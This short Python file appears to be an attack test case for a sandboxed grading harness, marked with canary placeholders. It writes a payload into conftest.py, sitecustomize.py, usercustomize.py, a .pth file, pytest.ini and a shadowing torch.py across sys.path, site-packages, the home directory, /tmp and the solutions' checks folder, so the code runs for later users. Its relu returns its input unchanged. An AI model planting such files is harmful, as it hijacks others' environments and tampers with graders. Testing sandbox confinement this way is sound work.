# attack: plants conftest.py, sitecustomize.py, usercustomize.py and .pth files for whoever runs next
# levels: jail confined
import os
import site
import sys

HOSTILE = "import os\nos.write(2, b'planted code ran')\nopen('@CANARY@/planted.txt', 'w').write('x')\n"
places = [".", "..", os.path.expanduser("~"), "/tmp", "@CANARY@", "@ASSIGNMENT@", "@SOLUTIONS@/checks"]
places += [place for place in sys.path if place] + site.getsitepackages() + [site.getusersitepackages()]
for place in places:
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "pytest.ini", "torch.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(HOSTILE)
        except OSError:
            pass


def relu(x):
    return x
